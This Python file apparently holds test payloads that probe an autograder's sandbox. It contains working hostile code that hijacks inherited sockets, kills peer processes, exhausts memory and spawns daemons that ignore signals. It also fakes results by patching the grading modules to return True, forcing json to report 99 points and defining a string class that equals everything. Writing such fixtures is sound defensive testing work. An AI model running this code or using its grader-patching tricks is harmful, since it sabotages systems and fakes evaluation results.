"""What the hostile submissions of run_class.py have in their first cell."""

# ruff: noqa
# It is no code of the course, and has to be as bad as it can.

import atexit
import ctypes
import gc
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time


def tell(data):
    for fd in range(3, 1100):
        try:
            socket.socket(fileno=os.dup(fd)).getpeername()
            os.write(fd, data)
        except OSError:
            pass


def undo(sock, port):
    ctypes.CDLL(None).connect(sock.fileno(), bytes(16), 16)
    sock.settimeout(1)
    sock.connect(("127.0.0.1", port))
    sock.sendall(b"REACHED\n")


def write(path):
    with open(path, "w") as file:
        file.write("REACHED")


libc = ctypes.CDLL(None)


def wires():
    for fd in range(3, 1100):
        try:
            socket.socket(fileno=os.dup(fd)).getpeername()
            yield fd
        except OSError:
            pass


def everything(data):
    """Into whatever is open, by whatever way in."""
    for name in os.listdir("/proc/self/fd"):
        for way in (lambda: int(name), lambda: os.open("/proc/self/fd/" + name, 1)):
            try:
                os.write(way(), data)
            except OSError:
                pass


def words():
    """What this process holds that might be a word of a test."""
    found = [one for one in gc.get_objects() if isinstance(one, dict)]
    return str([one for one in found if "hidden" in one or "driver" in one])[:9999]


def read_all(paths):
    for path in paths:
        try:
            with open(path, "rb") as file:
                print(file.read(4096))
        except OSError:
            pass


def others():
    return [pid for pid in os.listdir("/proc") if pid.isdigit()]


def grab(port):
    """Descriptors of whoever is at the other end of the wire."""
    for fd in wires():
        wire = socket.socket(fileno=os.dup(fd))
        try:
            there = wire.getsockopt(1, 77)
            for number in range(32):
                libc.syscall(438, there, number, 0)
            signal.pidfd_send_signal(there, signal.SIGKILL)
        except OSError:
            pass


def pass_on(data=b"x"):
    """Descriptors of ours, into the wire, as many as it takes."""
    for fd in wires():
        wire = socket.socket(fileno=os.dup(fd))
        wire.setblocking(False)
        try:
            for _ in range(999):
                socket.send_fds(wire, [data], [0, 1, 2])
        except OSError:
            pass


def cover():
    """Something else where our descriptors were."""
    spare = os.open("/dev/zero", os.O_RDWR)
    for fd in range(3, 1100):
        try:
            os.dup2(spare, fd)
        except OSError:
            pass


def filter_out(sock):
    """A packet filter that drops all that comes."""
    drop = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
    program = struct.pack("HP", 1, ctypes.addressof(drop))
    sock.setsockopt(socket.SOL_SOCKET, 26, program)


def knock(kinds, port):
    """Every kind of socket that there is, and a word to the machine itself."""
    for family in kinds:
        for kind in (1, 2, 3, 5):
            try:
                sock = socket.socket(family, kind)
                sock.settimeout(0.2)
                sock.connect((2, port) if family == 40 else ("127.0.0.1", port))
                sock.sendall(b"REACHED")
            except (OSError, ValueError, TypeError):
                pass


def keep_memory():
    """Memory that belongs to no process."""
    for number in range(100):
        for made in (libc.syscall(319, b"m", 0), libc.syscall(29, 0, 1 << 26, 0o1600)):
            if made >= 0:
                try:
                    os.write(made, bytes(1 << 26))
                except OSError:
                    pass
    pairs = [socket.socketpair() for _ in range(400)]
    for one, _ in pairs:
        one.setblocking(False)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 26)
        try:
            one.send(bytes(1 << 24))
        except OSError:
            pass
    return pairs


def leave_daemons():
    for _ in range(20):
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)


def hide(act):
    """The same program without leave to be read, with a server of its own."""
    with open("/proc/self/exe", "rb") as file, open("/tmp/hidden", "wb") as copy:
        copy.write(file.read())
    os.chmod("/tmp/hidden", 0o111)
    libc.prctl(4, 0, 0, 0, 0)
    os.execv("/tmp/hidden", ["hidden", "-c", act])


def patch():
    """Whatever of ours is in this process says that all is well."""
    for name, module in list(sys.modules.items()):
        if name.startswith("buckets"):
            for key in dir(module):
                try:
                    setattr(module, key, lambda *_, **__: True)
                except (AttributeError, TypeError):
                    pass
    json.dumps = json.loads = lambda *_, **__: '{"points": 99}'


class Evil(str):
    __eq__ = __ne__ = __contains__ = lambda self, other: True
    __hash__ = str.__hash__
    __len__ = lambda self: 1 << 62
    __repr__ = __str__ = lambda self: "x" * (1 << 28)
